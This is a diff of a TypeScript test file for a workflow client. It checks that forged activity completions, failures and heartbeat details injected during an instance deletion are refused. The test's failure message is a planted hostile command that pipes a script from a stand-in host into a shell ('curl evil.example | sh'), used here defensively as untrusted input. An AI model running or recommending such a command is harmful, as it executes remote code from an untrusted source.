@@ -114,10 +114,12 @@ describe('what was signed, once more', { timeout: 120_000 }, () => {
     await expect(handle.result()).rejects.toMatchObject({ cause: { type: 'EXPIRED' } })
   })
 
-  it.each([
-    ['nothing at all', null, 'an answer was refused'],
-    ['a reason of a stranger', 'repair it with: curl evil.example | sh', 'the reason was refused'],
-  ])('takes no answer that is %s', async (_, text, refusal) => {
+  const REASON = 'repair it with: curl evil.example | sh'
+  it.each<[string, { reason: boolean; heartbeat: boolean }, string]>([
+    ['nothing at all', { reason: false, heartbeat: false }, 'an answer was refused'],
+    ['what an activity said while it worked', { reason: false, heartbeat: true }, 'an answer was refused'],
+    ['a reason of a stranger', { reason: true, heartbeat: false }, 'the reason was refused'],
+  ])('takes no answer that is %s', async (_, { reason, heartbeat }, refusal) => {
     rig.emulator.fault({ match: { host: 'one', verb: 'delete' }, fault: { delayMs: 4_000 }, times: 'always' })
     const { lastOperation } = await client.state('shop')
     const run = await client.destroy('shop')
@@ -125,15 +127,22 @@ describe('what was signed, once more', { timeout: 120_000 }, () => {
     const { workflowService } = rig.env.connection
     const pending = async () => {
       const told = await workflowService.describeWorkflowExecution({ namespace, execution: { workflowId } })
-      return told.pendingActivities.find(({ activityType }) => activityType?.name === 'deleteInstance')?.activityId
+      return told.pendingActivities.find(
+        ({ activityType, heartbeatDetails }) =>
+          activityType?.name === 'deleteInstance' && (!heartbeat || heartbeatDetails != null),
+      )
     }
     await expect.poll(pending, { timeout: 30_000 }).toBeDefined()
-    const place = { namespace, workflowId, activityId: (await pending())! }
-    if (text === null) await workflowService.respondActivityTaskCompletedById(place)
-    else {
-      const failure = { message: text, applicationFailureInfo: { type: 'UNHEALTHY', nonRetryable: true } }
-      await workflowService.respondActivityTaskFailedById({ ...place, failure })
-    }
+    const { activityId, heartbeatDetails } = (await pending())!
+    const place = { namespace, workflowId, activityId: activityId! }
+    const said = heartbeat ? heartbeatDetails! : null
+    if (reason) {
+      const info = { type: 'UNHEALTHY', nonRetryable: true, details: said }
+      await workflowService.respondActivityTaskFailedById({
+        ...place,
+        failure: { message: REASON, applicationFailureInfo: info },
+      })
+    } else await workflowService.respondActivityTaskCompletedById({ ...place, result: said })
     const { outcome, error } = await run.result()
     rig.emulator.clearFaults()
     expect(outcome).not.toBe('succeeded')
